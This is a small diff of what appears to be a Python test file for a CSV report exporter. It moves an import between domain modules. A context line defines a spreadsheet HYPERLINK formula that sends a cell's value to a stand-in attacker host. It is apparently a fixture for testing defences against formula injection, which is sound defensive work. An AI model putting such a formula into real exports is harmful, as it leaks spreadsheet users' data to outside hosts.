@@ -3,8 +3,9 @@
 import csv
 import io
 
+from domain.ranking import Ranked
 from domain.report import ExportFormat, csv_cell, render
-from domain.scoring import Ranked, prioritize
+from domain.scoring import prioritize
 from tests.builders import project as a_project
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?d="&B3,"Open")'
